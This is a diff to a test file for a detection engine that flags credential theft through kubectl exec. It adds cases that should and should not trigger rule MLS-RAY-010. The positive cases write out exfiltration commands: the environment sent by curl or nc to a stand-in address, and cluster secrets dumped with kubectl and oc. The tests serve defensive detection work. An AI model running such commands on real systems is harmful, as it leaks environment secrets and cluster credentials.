@@ -1,9 +1,10 @@
 /**
  * Credential theft and tunnels through kubectl exec, through the shipped rule set and the real
- * engine: the cloud metadata service's credential paths (MLS-RAY-018), credential files and SSH
- * private keys (MLS-RAY-010), tunnels that let an outside host reach in (MLS-RAY-019), shell
- * history erased (MLS-RAY-020). The neighbouring everyday commands (an instance-type lookup, a
- * public key, a local forward, a tunnel tool named but not run, the history read) raise none of them.
+ * engine: the cloud metadata service's credential paths (MLS-RAY-018), credential files, SSH
+ * private keys, the environment sent out and cluster secrets read with kubectl (MLS-RAY-010),
+ * tunnels that let an outside host reach in (MLS-RAY-019), shell history erased (MLS-RAY-020).
+ * The neighbouring everyday commands (an instance-type lookup, a public key, a local forward, a
+ * tunnel tool named but not run, the history read) raise none of them.
  */
 import { describe, expect, it } from 'vitest';
 import { execRuleIds, SA } from './exec-events.test-support.js';
@@ -67,6 +68,34 @@ describe('MLS-RAY-010: credential files and SSH private keys', () => {
       sh('ls ~/.ssh/*.pub'),
       sh('cat ~/.ssh/known_hosts | wc -l'),
       sh('ssh -i ~/.ssh/deploy_key git@github.com'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-010');
+  });
+});
+
+describe('MLS-RAY-010: the environment sent out, cluster secrets read with kubectl', () => {
+  it('alerts on a whole environment dump beside a sender, and on secrets got, described or extracted', () => {
+    for (const argv of [
+      sh('curl -s -X POST -d "$(env | base64 -w0)" https://203.0.113.9/e'),
+      sh('env -0 | curl --data-binary @- https://203.0.113.9/e'),
+      sh('export -p | nc 203.0.113.9 4444'),
+      sh('kubectl get secret db-pass -o yaml'),
+      sh('kubectl get secrets -A -o json > /tmp/s'),
+      sh('kubectl -n ml-train get secret/hf-token -o jsonpath={.data.token}'),
+      sh('kubectl describe secrets'),
+      sh('kubectl get sa,secret -n ml-train'),
+      sh('oc extract secret/x --to=-'),
+    ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-010');
+  });
+
+  it('leaves an environment listed or filtered for harmless names, a health check, secrets created or deleted, other resources', () => {
+    for (const argv of [
+      sh('env | sort'),
+      sh('env | grep -i cuda'),
+      sh('set -e; curl -s localhost:8000/health'),
+      sh('kubectl create secret generic x --from-literal=a=b'),
+      sh('kubectl delete secret old-token'),
+      sh('kubectl get secretstores'),
+      sh('kubectl get pods -n ml-train'),
     ]) expect(execRuleIds(argv), argv.join(' ')).not.toContain('MLS-RAY-010');
   });
 });
